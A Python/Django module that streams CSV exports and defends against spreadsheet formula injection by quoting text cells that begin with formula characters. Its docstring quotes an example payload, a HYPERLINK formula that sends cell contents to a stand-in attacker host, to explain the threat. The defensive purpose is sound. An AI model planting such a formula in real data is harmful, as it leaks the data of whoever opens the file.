"""CSV exports that are safe to open in a spreadsheet.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (CSV/formula injection, OWASP). An account name such as
``=HYPERLINK("http://evil.example?x="&A1,"Click")`` typed into the CRM would otherwise run on the
leader's machine when they open an export. Such text cells are prefixed with a single quote, which
spreadsheets show as plain text. Numbers (``int``, ``float``, ``Decimal``) stay numbers, so a
negative amount is still ``-12.50``.

    from csplatform.csv import csv_response

    def export(request):
        rows = ([a.name, a.acv, a.tier_code] for a in accounts)
        return csv_response("accounts.csv", ["Name", "ACV", "Tier"], rows)
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """The value as it should be written to a CSV cell: text that could be a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class _Echo:
    """A file-like object whose write() returns what it was given (for streaming)."""

    def write(self, value: str) -> str:
        return value


def iter_csv(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV lines (header first), every cell made safe; rows are consumed lazily."""
    writer = csv.writer(_Echo())
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(
    filename: str, header: Iterable[str], rows: Iterable[Iterable[Any]]
) -> StreamingHttpResponse:
    """A streamed ``text/csv`` attachment; large exports do not sit in memory."""
    safe_name = "".join(ch for ch in filename if ch.isalnum() or ch in "._-") or "export.csv"
    response = StreamingHttpResponse(iter_csv(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{safe_name}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
